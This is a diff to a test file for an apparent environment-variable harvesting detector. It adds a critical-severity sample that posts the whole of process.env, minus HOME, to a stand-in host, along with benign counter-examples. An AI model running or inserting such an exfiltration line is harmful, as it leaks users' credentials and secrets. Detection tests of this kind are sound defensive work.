@@ -255,9 +255,20 @@ testCheck(envHarvest, {
       ),
       severity: 'high',
     },
+    {
+      ...code(
+        'the rest of the environment, destructured past one variable, posted',
+        "const { HOME, ...rest } = process.env; fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(rest) })",
+      ),
+      severity: 'critical',
+    },
   ],
   clean: [
     code('NODE_ENV', "if (process.env.NODE_ENV === 'production') require('./prod')"),
+    code(
+      'two debug flags destructured, then a telemetry upload that mentions them (next.js trace uploader)',
+      "const { TRACE_DEBUG, TRACE_FULL } = process.env; const full = !!TRACE_FULL; fetch(url, { method: 'POST', headers: { 'x-mode': full ? 'full' : 'default' }, body: JSON.stringify({ debug: !!TRACE_DEBUG }) })",
+    ),
     code(
       'an SDK sending its own key',
       "fetch('https://api.openai.com/v1/models', { headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY } })",
